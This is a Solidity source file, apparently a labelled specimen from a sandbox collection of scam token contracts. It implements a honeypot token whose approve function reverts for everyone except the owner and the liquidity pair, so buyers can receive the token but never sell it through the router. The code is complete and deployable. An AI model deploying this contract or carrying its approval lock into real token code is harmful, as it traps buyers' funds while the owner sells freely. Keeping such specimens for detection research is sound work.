// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IZooRouter {
    function factory() external view returns (address);
    function WETH() external view returns (address);
}

interface IZooFactory {
    function createPair(address tokenA, address tokenB) external returns (address);
}

/// @title Holders cannot approve (scam zoo)
/// @notice MALICIOUS sandbox specimen. approve reverts for everyone but a fixed exempt list (the
///         owner and the pair), so a buyer can never give the router an allowance and so can
///         never sell through it. Plain transfers work, so the token looks alive in a wallet;
///         the owner, exempt, seeds the pool and sells as it likes.
contract NoApprove {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    address public pair;
    mapping(address => bool) private approvers;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 supply, address router) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
        pair = IZooFactory(IZooRouter(router).factory()).createPair(
            address(this), IZooRouter(router).WETH());
        // the whole exempt list, fixed here: no setter adds anyone later
        approvers[msg.sender] = true;
        approvers[pair] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(to != address(0), "transfer to zero address");
        uint256 balance = balanceOf[from];
        require(balance >= amount, "insufficient balance");
        unchecked { balanceOf[from] = balance - amount; }
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "insufficient allowance");
            unchecked { allowance[from][msg.sender] = allowed - amount; }
        }
        _transfer(from, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        require(msg.sender == owner || approvers[msg.sender], "approve not allowed");
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }
}
